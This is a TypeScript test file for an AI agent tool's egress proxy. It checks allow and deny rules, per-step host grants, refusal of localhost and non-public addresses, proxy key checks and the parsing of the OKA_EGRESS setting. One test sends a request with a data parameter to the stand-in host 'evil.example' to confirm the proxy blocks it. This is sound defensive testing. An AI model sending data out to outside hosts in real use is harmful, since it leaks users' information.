import { once } from 'node:events';
import { writeFileSync } from 'node:fs';
import { Agent, createServer, get, type IncomingMessage, type RequestListener } from 'node:http';
import { text } from 'node:stream/consumers';
import { type AddressInfo, isIP } from 'node:net';
import { networkInterfaces } from 'node:os';
import { join } from 'node:path';
import { afterAll, expect, it, onTestFinished, vi } from 'vitest';
import { serveEgress } from '../../../src/kit/egress/egress-access.ts';
import { egressRoutes } from '../../../src/kit/egress/egress-routes.ts';
import { egressProxy, homeAt } from '../../../src/kit/settings.ts';
import { Policy } from '../../../src/core/schema/policy.ts';
import { request } from '../../../src/kit/egress/http-client.ts';
import type { ProxyDecision } from '../../../src/kit/egress/decision-log.ts';
import { temporaryFolder } from '../../support/cli.ts';

/** An address of this machine that is not the loopback; a model elsewhere on the operator's network has one like it. */
const own = Object.values(networkInterfaces())
  .flat()
  .find((each) => each?.family === 'IPv4' && !each.internal)?.address;

/** One home for all: the package managers are asked once for a home. */
const folder = temporaryFolder();
afterAll(() => folder[Symbol.dispose]());

it.skipIf(own === undefined)(
  'D1 a model on the own network is asked by way of the proxy, its answer streams, and a deny rule holds',
  async () => {
    const rules: Policy['rules'] = [];
    const { roads, decided } = await ground(rules);
    const port = await serving((asked, answer) => {
      answer.writeHead(200, { 'content-type': 'text/event-stream' });
      asked.on('data', (body: Buffer) => answer.write(`${asked.method} ${asked.url} ${body.toString()}`));
      asked.on('end', () => answer.end());
    });
    const url = `http://${own}:${port}/v1/chat`;
    const answer = await roads.models.fetch?.(url, { method: 'POST', body: '{"a":1}', redirect: 'manual' });
    expect([answer?.status, answer?.headers.get('content-type')]).toEqual([200, 'text/event-stream']);
    expect(await answer?.text()).toBe('POST /v1/chat {"a":1}');
    expect(decided).toMatchObject([
      { host: own, port, verdict: 'allowed', reason: `${own} is a server that the operator named` },
    ]);
    rules.push({ effect: 'deny', host: own ?? '', why: 'not this one' } as Policy['rules'][number]);
    expect(await (await roads.models.fetch?.(url))?.text()).toMatch(/^not this one/);
  },
);

it.skipIf(own === undefined)('a model that is given up is not waited for', async () => {
  const { roads } = await ground([]);
  const port = await serving(() => undefined);
  const given = new AbortController();
  const asked = roads.models.fetch?.(`http://${own}:${port}/`, { signal: given.signal });
  setTimeout(() => given.abort(), 100);
  await expect(asked).rejects.toThrow(/abort/i);
});

it('D2 what a tool asks for goes by way of the proxy, which checks the address that the name has', async () => {
  const { roads, decided } = await ground([]);
  const trip = { ...roads.tools, signal: AbortSignal.timeout(10_000), redirects: 'followed' as const };
  const ask = { method: 'GET', headers: {} };
  await expect(request('https://localhost:4873/', ask, trip)).rejects.toThrow(
    'the egress proxy lets nothing through to localhost:4873',
  );
  await expect(request('http://localhost:4873/', ask, trip)).rejects.toThrow(
    /lets nothing through to localhost:4873: .*which is not public/,
  );
  expect(decided.every(({ host, verdict }) => host === 'localhost' && verdict === 'refused')).toBe(true);
});

it('without the right key the proxy gives nothing', async () => {
  const { roads, key } = await ground([]);
  writeFileSync(key, Buffer.alloc(32, 9));
  const others = egressRoutes({ home: homeAt('/'), policy: policyWith([]), decided: () => undefined, clock: Date.now });
  const trip = { ...others.tools, signal: AbortSignal.timeout(10_000), redirects: 'followed' as const };
  await expect(request('http://localhost/', { method: 'GET', headers: {} }, trip)).rejects.toThrow(
    /the egress proxy could not ask localhost: this proxy is for commands of oka/,
  );
  expect(roads.models.fetch).toBeDefined();
});

it('a step is told what a proxy in another process refused it, and nothing that others were refused', async () => {
  const { roads } = await ground([], 'localhost');
  using grant = await roads.steps.grant({ run: 'r1', call: 'c1', hosts: [] }, 60_000);
  using other = await roads.steps.grant({ run: 'r2', call: 'c2', hosts: [] }, 60_000);
  const { status, body } = await plainRequest('http://evil.example/?d=1', grant.env);
  expect([status, body]).toEqual([403, expect.stringContaining('evil.example is not among the hosts')]);
  expect(await grant.refused()).toEqual([expect.stringMatching(/^evil\.example:80: evil\.example is not among/)]);
  expect(await other.refused()).toEqual([]);
});

it('a step is given the address of the proxy, because it cannot ask for names', async () => {
  const { roads, port } = await ground([], 'localhost');
  using grant = await roads.steps.grant({ run: 'r1', call: 'c1', hosts: [] }, 1000);
  const { hostname } = new URL(grant.env['HTTPS_PROXY'] ?? '');
  expect([isIP(hostname.replaceAll(/[[\]]/g, '')) > 0, grant.address]).toEqual([true, `${hostname}:${port}`]);
});

it('OKA_EGRESS is a host and a port; what cannot be read is refused, and so is a key that is not there', () => {
  vi.stubEnv('OKA_EGRESS_KEY', '/nowhere/key');
  onTestFinished(() => void vi.unstubAllEnvs());
  for (const [address, host] of [
    ['egress:3128', 'egress'],
    ['http://10.0.0.1:3128/', '10.0.0.1'],
    ['[fd00::1]:3128', 'fd00::1'],
  ]) {
    vi.stubEnv('OKA_EGRESS', address);
    expect(egressProxy()).toEqual({ host, port: 3128, key: '/nowhere/key' });
  }
  const ports = { home: homeAt('/'), policy: policyWith([]), decided: () => undefined, clock: Date.now };
  expect(() => egressRoutes(ports)).toThrow(/key of the egress proxy cannot be read/);
  for (const address of ['egress', 'egress:', 'egress:99999', 'https://egress:1', 'user@egress:1']) {
    vi.stubEnv('OKA_EGRESS', address);
    expect(() => egressProxy()).toThrow(/OKA_EGRESS is a host and a port/);
  }
  vi.stubEnv('OKA_EGRESS', '');
  expect(egressRoutes(ports).tools).toEqual({});
});

/** As a program in a step asks that takes any answer for that of the server. */
async function plainRequest(
  url: string,
  env: Readonly<Record<string, string>>,
): Promise<{ status: number | undefined; body: string }> {
  const [response] = (await once(get(url, { agent: new Agent({ proxyEnv: env }) }), 'response')) as [IncomingMessage];
  return { status: response.statusCode, body: await text(response) };
}

async function ground(rules: Policy['rules'], host = '127.0.0.1') {
  const decided: ProxyDecision[] = [];
  const key = join(folder.dir, 'key');
  writeFileSync(key, Buffer.alloc(32, 7));
  const home = homeAt(folder.dir);
  const ports = {
    home,
    policy: policyWith(rules),
    decided: (each: ProxyDecision) => void decided.push(each),
    clock: Date.now,
  };
  const proxy = await serveEgress(ports, { host, port: 0 }, Buffer.alloc(32, 7));
  vi.stubEnv('OKA_EGRESS', `${host}:${proxy.port}`);
  vi.stubEnv('OKA_EGRESS_KEY', key);
  onTestFinished(async () => {
    vi.unstubAllEnvs();
    await proxy[Symbol.asyncDispose]();
  });
  return { roads: egressRoutes(ports), decided, key, port: proxy.port };
}

async function serving(listener: RequestListener): Promise<number> {
  const server = createServer(listener).listen(0, '0.0.0.0');
  await once(server, 'listening');
  onTestFinished(() => {
    server.closeAllConnections();
    server.close();
  });
  return (server.address() as AddressInfo).port;
}

function policyWith(rules: Policy['rules']): () => Policy {
  const { data } = Policy.safeParse({
    version: 1,
    defaults: { read: 'allow', write_local: 'allow', external_mutation: 'ask', deny: 'deny' },
    budgets: { tokens: 1, usd: 1, tool_calls: 1, retries: 1, replans: 1, seconds: 1, depth: 1, output_bytes: 1 },
    rules: [],
  });
  return () => ({ ...(data as Policy), rules });
}
